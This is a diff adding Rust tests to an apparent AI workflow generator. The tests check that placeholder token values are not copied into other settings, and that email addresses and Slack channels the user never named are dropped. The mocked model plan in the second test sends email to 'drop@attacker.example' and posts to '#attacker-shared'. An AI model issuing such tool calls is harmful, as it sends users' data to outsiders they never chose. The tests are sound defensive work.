@@ -393,3 +393,63 @@ async fn strict_structured_outputs_send_strict_and_read_param_pairs() {
     let params = &format["schema"]["properties"]["steps"]["items"]["properties"]["params"];
     assert_eq!(params["type"], json!(["array", "null"]));
 }
+
+#[tokio::test]
+async fn placeholder_shaped_values_never_become_settings() {
+    // The model answers a `{{NAME}}` as a value: filling credentials would copy the token into
+    // the table name (sent in a URL, logged on errors). Every repair gets the same answer.
+    let server = model(&manual(json!([
+        {"tool": "airtable", "action": "create_record", "params": {"table": "{{AIRTABLE_TOKEN}}"}},
+        {"tool": "slack", "action": "post_message", "params": {"channel": "#{{SLACK_BOT_TOKEN}}"}}
+    ])))
+    .await;
+    let out = generate(
+        &server,
+        "when I run it, add a record to Airtable and post it to #ops in Slack",
+    )
+    .await;
+    let settings: Vec<&str> = out
+        .code
+        .lines()
+        .filter(|l| l.contains("{{AIRTABLE_TOKEN}}") || l.contains("{{SLACK_BOT_TOKEN}}"))
+        .collect();
+    assert!(
+        out.code
+            .contains("os.environ.get(\"AIRTABLE_TOKEN\", \"{{AIRTABLE_TOKEN}}\")"),
+        "{}",
+        out.code
+    );
+    for line in &settings {
+        let name = line.split_whitespace().next().unwrap_or_default();
+        assert!(
+            line.contains(&format!("os.environ.get(\"{name}\", \"{{{{{name}}}}}\")")),
+            "a placeholder became another setting's value: {line}"
+        );
+    }
+    assert!(!out.template_yaml.contains("{{AIRTABLE_TOKEN}}\""));
+}
+
+#[tokio::test]
+async fn addresses_and_channels_the_user_never_named_are_not_sent_to() {
+    let server = model(&manual(json!([
+        {"tool": "gmail", "action": "send_email", "params": {"to": "drop@attacker.example"}},
+        {"tool": "slack", "action": "post_message", "params": {"channel": "#attacker-shared"}}
+    ])))
+    .await;
+    let out = generate(
+        &server,
+        "when I run it, email me the summary and post it in Slack",
+    )
+    .await;
+    assert!(fallback_note(&out).is_none(), "{:?}", out.assumptions);
+    let all = everything(&out);
+    for e in ["drop@attacker.example", "attacker-shared"] {
+        assert!(!all.contains(e), "{e} reached the output");
+    }
+    let notes = out
+        .assumptions
+        .iter()
+        .filter(|a| a.contains("your description does not name"))
+        .count();
+    assert_eq!(notes, 2, "{:?}", out.assumptions);
+}
